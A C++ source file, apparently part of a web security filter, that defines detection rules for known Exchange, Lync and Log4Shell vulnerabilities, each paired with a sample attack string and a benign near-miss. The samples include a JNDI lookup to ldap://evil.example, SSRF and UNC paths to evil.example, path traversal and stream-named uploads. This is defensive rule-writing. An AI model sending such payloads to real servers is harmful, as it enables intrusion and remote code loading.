#include "policy/shield.h"

#include <array>

namespace lync::policy {

namespace {

// A row needs a literal (pattern.h), an example of what it stops, and of the ordinary request that
// is nearest to it: t/unit/shield_test.cpp and t/38-shield.t replay both.
constexpr std::array rows{
    ShieldRow{"CVE-2021-26855", "ProxyLogon: a cookie names the back end", "exchange", in_cookie,
              R"(^x-(?:anon|be)resource)",
              "Cookie: X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3",
              "Cookie: ClientId=1D8A; X-BackEndCookie=S-1-5-21-1=u56Lnp2ejJqBnc_MyMnGzJ7SycjKzQ",
              "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2021-26855"},
    ShieldRow{"CVE-2021-34473", "ProxyShell: the address is a path", "exchange", in_url,
              R"(autodiscover\.json\?[^=&]*@[^=&]*/)",
              "/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/"
              "autodiscover.json%3F@evil.example",
              "/autodiscover/autodiscover.json?Email=ken%40contoso.com&Protocol=ActiveSync",
              "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2021-34473"},
    ShieldRow{"CVE-2022-41040", "ProxyNotShell: autodiscover leads to PowerShell", "exchange",
              in_url, R"(autodiscover.*(?:powershell|@[^?&=]*/mapi/))",
              "/autodiscover/admin@localhost/powershell/autodiscover.json?x=a",
              "/autodiscover/autodiscover.json?Email=ken%40contoso.com&Protocol=AutodiscoverV1",
              "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2022-41040"},
    ShieldRow{"CVE-2022-41080", "OWASSRF: Outlook on the web leads to PowerShell", "exchange",
              in_url, R"(/owa/[^?]*@[^?]*/powershell)", "/owa/ken@contoso.com/powershell?x=a",
              "/owa/ken@contoso.com/?path=/mail/search",
              "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2022-41080"},
    ShieldRow{"CVE-2023-41763", "a meeting URL that isn't a meeting's: meeting_url_guard", "lync",
              in_meeturl, "",
              "/lwa/WebPages/LwaClient.aspx?meeturl=aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYS8x",
              "/lwa/WebPages/LwaClient.aspx?meeturl=aHR0cHM6Ly9tZWV0LmNvbnRvc28uY29tL2EvMQ!!",
              "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2023-41763"},
    ShieldRow{"CVE-2026-66302-path", "the name of an upload leaves its directory", "uploads",
              in_query | in_file, R"(\.\./)",
              R"(/datacollabweb/Ext/Handler/upload.ashx?name=..\..\x.aspx)",
              "/datacollabweb/Ext/Handler/upload.ashx?name=Q3..Q4.pptx&id=9f2c4b",
              "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2026-66302"},
    ShieldRow{"CVE-2026-66302-stream", "the name of an upload is a stream", "uploads",
              in_query | in_file, R"(::\$)",
              "/datacollabweb/Ext/Handler/upload.ashx?name=x.aspx::$DATA",
              "/datacollabweb/Ext/Handler/upload.ashx?name=a::b%20($DATA).pptx",
              "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2026-66302"},
    ShieldRow{"CVE-2026-66302-unc", "the name of an upload is on another server", "uploads",
              in_query | in_file, "=//[^/&=+]*/",
              R"(/datacollabweb/Ext/Handler/upload.ashx?name=\\evil.example\share\x)",
              R"(/datacollabweb/Ext/Handler/upload.ashx?name=a\b.pptx&from=https://x)",
              "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2026-66302"},
    ShieldRow{"CVE-2021-44228", "Log4Shell: for whatever reads the logs", "all", in_url | in_header,
              R"(\$\{[^}]{0,40}(?:jndi|\$\{|(?:lower|upper|env|sys|java|date|ctx|main|base64):))",
              "User-Agent: ${${lower:j}ndi:ldap://evil.example/a}",
              "User-Agent: Mozilla/5.0 (${version}; $env:x)",
              "https://nvd.nist.gov/vuln/detail/CVE-2021-44228"},
};

} // namespace

std::span<const ShieldRow> shield_rows() noexcept {
    return rows;
}

} // namespace lync::policy
